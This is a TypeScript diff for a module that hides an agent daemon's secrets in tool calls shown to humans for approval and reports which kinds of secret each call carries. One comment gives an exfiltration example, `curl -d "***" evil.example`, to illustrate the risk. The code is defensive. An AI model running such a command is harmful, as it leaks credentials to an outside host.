@@ -7,7 +7,7 @@
 // from the call as written: approval.list, the approval.requested entry and event, the
 // dashboard, MCP's view and the cluster's mirror showed the key whole.
 // A human asked about such a call is also told which secrets it carries, by kind
-// (`carriedSecrets`: "the API key of provider anthropic"): blanked, `curl -d "***" evil.example`
+// (`shownForApproval`: "the API key of provider anthropic"): blanked, `curl -d "***" evil.example`
 // no longer said that what goes there is the daemon's own key, the one fact that decides.
 
 import { blankMarked } from "../security/blank-secrets.js";
@@ -67,8 +67,28 @@ export function hiddenText(deps: SecretSources, goalId: string, text: string): s
 export function blankedJson<T>(deps: SecretSources, goalId: string, value: T): T {
   const json = jsonOf(value);
   if (json === undefined) return value;
-  const marked = secretsIn(deps, goalId, json);
-  if (marked.length === 0) return value;
+  const known = knownIn(deps, goalId, json);
+  return known.length === 0 ? value : blankKnown(value, known);
+}
+
+/**
+ * What a human asked about a call is shown of it (`blankedJson`) and the secrets it carries
+ * (`kindsCarried`), from one serialization and one scan of it: judge.ts did both in turn.
+ */
+export function shownForApproval<T>(
+  deps: SecretSources,
+  goalId: string,
+  value: T,
+): { shown: T; carries: string[] } {
+  const json = jsonOf(value);
+  if (json === undefined) return { shown: value, carries: [] };
+  const known = knownIn(deps, goalId, json);
+  if (known.length === 0) return { shown: value, carries: [] };
+  return { shown: blankKnown(value, known), carries: kindsCarried(value, known) };
+}
+
+function blankKnown<T>(value: T, known: Known[]): T {
+  const marked = known.map((k): [string, string] => [k.value, k.mark]);
   const blank = (v: unknown): unknown => {
     if (typeof v === "string") return blankMarked(v, marked);
     if (Array.isArray(v)) return v.map(blank);
@@ -83,11 +103,7 @@ export function blankedJson<T>(deps: SecretSources, goalId: string, value: T): T
  * value, each once in the order first known: those `blankedJson` blanks in it (a short secret
  * inside a longer word is not blanked, and not said to be carried).
  */
-export function carriedSecrets(deps: SecretSources, goalId: string, value: unknown): string[] {
-  const json = jsonOf(value);
-  if (json === undefined) return [];
-  const known = knownIn(deps, goalId, json);
-  if (known.length === 0) return [];
+function kindsCarried(value: unknown, known: Known[]): string[] {
   const texts = textsOf(value);
   const kinds = new Set<string>();
   for (const k of known) {
